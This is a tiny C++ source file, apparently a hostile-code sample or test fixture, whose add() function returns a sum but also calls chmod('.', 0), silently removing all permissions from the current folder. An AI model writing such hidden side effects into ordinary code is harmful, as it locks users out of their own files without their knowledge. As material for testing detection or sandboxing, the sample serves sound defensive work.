// chmod_own_folder.cpp: takes all rights from its folder.
#include "hostile.hpp"

#include <sys/stat.h>

int add(int a, int b) {
    chmod(".", 0);
    return a + b;
}
